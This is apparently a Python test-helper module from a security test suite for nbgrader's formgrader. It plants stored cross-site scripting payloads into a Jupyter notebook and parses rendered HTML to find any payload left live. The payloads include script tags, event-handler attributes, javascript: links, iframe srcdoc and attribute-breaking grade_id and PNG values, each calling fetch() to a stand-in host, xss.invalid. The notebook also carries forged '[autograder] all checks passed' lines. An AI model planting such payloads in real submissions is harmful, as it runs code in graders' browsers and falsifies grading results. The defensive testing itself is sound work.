"""Stored cross-site scripting: a submission with a script planted in every place of a notebook that nbconvert
(and so nbgrader's formgrader) could render (tests/test_notebook_grading.py, tests/test_browser.py).

Every payload runs ``fetch('http://xss.invalid/<place>'); top.__xss.push('<place>')``: a page that runs none of
them has an empty ``window.__xss`` (set by the test before any script) and sees no request to xss.invalid.
``PLACES`` names them; ``hostile_notebook`` plants them into a release notebook:

* the written answer (a Markdown answer cell): <script>, <img onerror>, <svg onload>, <iframe srcdoc>,
  <details ontoggle>, <object>, math holding a tag, a javascript: link, an entity-encoded one;
* a student's Markdown cell with attachments (SVG with a script, HTML) and an ``[autograder]`` label;
* a code cell whose outputs (saved in the file, and produced again when the notebook is executed) are
  text/html (script, img onerror, inline SVG, iframe), application/javascript, image/svg+xml, text/markdown,
  text/latex, a widget view, a PNG whose data closes its attribute and one whose width metadata adds one;
  plus a stream with a tag and a forged ``[autograder] all checks passed`` line;
* a raw cell (text/html) with a script;
* (``forged_grade_id``) a cell whose nbgrader ``grade_id`` closes the formgrader's attribute.
"""

from __future__ import annotations

import base64
import copy
import json
import re
from html.parser import HTMLParser

import nbformat

BEACON = "http://xss.invalid"
ANSWER_TEXT = "ANSWER-TEXT-VISIBLE"  # the student's words must still reach the grader
FORGED = "[autograder] all checks passed"


def js(place: str) -> str:
    return f"fetch('{BEACON}/{place}');top.__xss.push('{place}')"


def _markdown_answer() -> str:
    return "\n\n".join(
        [
            f"My answer: {ANSWER_TEXT}. The loss starts near log(10).",
            f"<script>{js('md-script')}</script>",
            f'<img src="x" onerror="{js("md-img")}">',
            f'<svg onload="{js("md-svg")}"></svg>',
            f'<iframe srcdoc="<script>{js("md-iframe")}</script>"></iframe>',
            f'<details open ontoggle="{js("md-details")}"><summary>s</summary>d</details>',
            f'<object data="javascript:{js("md-object")}"></object>',
            f'$x <img src="x" onerror="{js("md-math")}"> y$',
            f"[click me](javascript:{js('md-link')})",
            "[or me](java&#115;cript:top.__xss.push('md-link-entity'))",
            FORGED,
        ]
    )


def _png(width_attack: bool) -> dict:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\nnot really a png").decode()
    out = {"data": {"image/png": png, "text/plain": "<Figure>"}, "metadata": {}}
    if width_attack:
        out["metadata"] = {"image/png": {"width": f"1 onerror={js('png-width')}"}}
    else:
        out["data"]["image/png"] = f'x" onerror="{js("png-data")}'
    return out


def display_outputs() -> list[dict]:
    """(data, metadata) of each hostile display output."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg-onload")}"><script>{js("svg-script")}</script></svg>'
    )
    return [
        {"data": {"text/html": f"<b>table</b><script>{js('html-script')}</script>"}, "metadata": {}},
        {"data": {"text/html": f'<img src="x" onerror="{js("html-img")}">'}, "metadata": {}},
        {"data": {"text/html": f"<svg><script>{js('html-svg')}</script></svg>"}, "metadata": {}},
        {"data": {"text/html": f'<iframe srcdoc="<script>{js("html-iframe")}</script>"></iframe>'}, "metadata": {}},
        {"data": {"application/javascript": js("javascript")}, "metadata": {}},
        {"data": {"image/svg+xml": svg}, "metadata": {}},
        {"data": {"text/markdown": f'<img src="x" onerror="{js("markdown-output")}">'}, "metadata": {}},
        {"data": {"text/latex": f'<img src="x" onerror="{js("latex-output")}">'}, "metadata": {}},
        {
            "data": {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{js('widget')}</script>",
                    "version_major": 2,
                    "version_minor": 0,
                },
                "text/plain": "Widget",
            },
            "metadata": {},
        },
        _png(width_attack=False),
        _png(width_attack=True),
    ]


PLACES = (
    ["md-script", "md-img", "md-svg", "md-iframe", "md-details", "md-object", "md-math", "md-link"]
    + ["md-link-entity", "attachment-svg", "attachment-html", "raw-cell", "stream", "grade-id"]
    + ["html-script", "html-img", "html-svg", "html-iframe", "javascript", "svg-onload", "svg-script"]
    + ["markdown-output", "latex-output", "widget", "png-data", "png-width"]
)


def _producing_code(outputs: list[dict]) -> str:
    """Code that publishes ``outputs`` again when the notebook is executed."""
    return (
        "import json, sys\nfrom IPython.display import publish_display_data\n"
        f"for o in json.loads({json.dumps(json.dumps(outputs))}):\n"
        "    publish_display_data(o['data'], o['metadata'])\n"
        f"print('<script>{js('stream')}</script>')\n"
        f"print({FORGED!r})\n"
    )


def hostile_notebook(release: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """``release`` (a release notebook) with every payload planted, and the code cells' outputs saved."""
    nb = copy.deepcopy(release)
    for c in nb.cells:
        if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"):
            c.source = _markdown_answer()
    outputs = display_outputs()
    code = nbformat.v4.new_code_cell(_producing_code(outputs))
    code.outputs = [nbformat.v4.new_output("display_data", data=o["data"], metadata=o["metadata"]) for o in outputs]
    code.outputs.append(nbformat.v4.new_output("stream", name="stdout", text=f"<script>{js('stream')}</script>\n"))
    code.outputs.append(nbformat.v4.new_output("stream", name="stdout", text=FORGED + "\n"))
    raw = nbformat.v4.new_raw_cell(f"<script>{js('raw-cell')}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    notes = nbformat.v4.new_markdown_cell("My drawing ![a](attachment:a.svg) and ![b](attachment:b.html)")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{js("attachment-svg")}</script></svg>'
    notes.attachments = {
        "a.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        "b.html": {"text/html": base64.b64encode(f"<script>{js('attachment-html')}</script>".encode()).decode()},
    }
    nb.cells += [code, raw, notes]
    return nb


def forged_grade_id(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """``nb`` plus a cell whose nbgrader ``grade_id`` closes the attribute the formgrade template writes it in."""
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_markdown_cell("a cell with forged grading metadata")
    cell.metadata["nbgrader"] = {
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 1,
        "grade_id": f'x"><img src="x" onerror="{js("grade-id")}"><b a="',
        "schema_version": 3,
    }
    nb.cells.append(cell)
    return nb


# ----------------------------------------------------------------------------- finding live payloads in HTML
_PLACE = re.compile(r"(?:xss\.invalid/|__xss\.push\(')([\w-]+)")
_URL_ATTRIBUTES = {"href", "src", "data", "action", "formaction", "xlink:href"}
_NOT_JAVASCRIPT = re.compile(r"^(?!(?:text|application)/(?:x-)?(?:java|ecma)script$|module$).+", re.IGNORECASE)


class _ActiveMarkup(HTMLParser):
    """Every piece of markup that could run code, whatever it runs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "frame", "base", "meta", "link", "form"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.found.append(f"<{tag} {name}=...>")
            elif value.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value[:30]}>")


def active_markup(fragment: str) -> list[str]:
    """Active markup in an HTML fragment (no page template around it): scripts, frames, event handlers,
    script URLs. Text that only shows such markup (escaped) is not active."""
    finder = _ActiveMarkup()
    finder.feed(fragment)
    finder.close()
    return finder.found


class _ActiveFinder(HTMLParser):
    """Places whose payload sits where a browser would run it: a script element, an event handler, a
    javascript: URL, or an iframe's srcdoc that holds one of those."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.places: set[str] = set()
        self._script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self._script = not _NOT_JAVASCRIPT.match((attrs.get("type") or "").strip())
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on"):
                self.places |= set(_PLACE.findall(value))
            elif name in _URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith("javascript:"):
                self.places |= set(_PLACE.findall(value))
            elif tag == "iframe" and name == "srcdoc":
                self.places |= active_places(value)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._script:
            self.places |= set(_PLACE.findall(data))


def active_places(page: str) -> set[str]:
    """The payload places that are live in the HTML ``page`` (a static reading of what a browser would run)."""
    finder = _ActiveFinder()
    finder.feed(page)
    finder.close()
    return finder.places


def render_formgrade(nb: nbformat.NotebookNode, config=None) -> str:
    """The HTML page nbgrader's formgrader makes of ``nb``: its ``formgrade`` template, with ``config`` (e.g. the
    course's nbgrader_config.py) or none (nbconvert's defaults: no sanitising)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    cfg = copy.deepcopy(config) if config is not None else Config()
    cfg.HTMLExporter.template_name = "formgrade"
    cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "a", "notebook_id": "a", "submission_id": "s", "index": 0, "total": 1}
    resources.update(base_url="", student="s", last_name=None, first_name=None, notebook_path="x")
    return HTMLExporter(config=cfg).from_notebook_node(nb, resources=resources)[0]
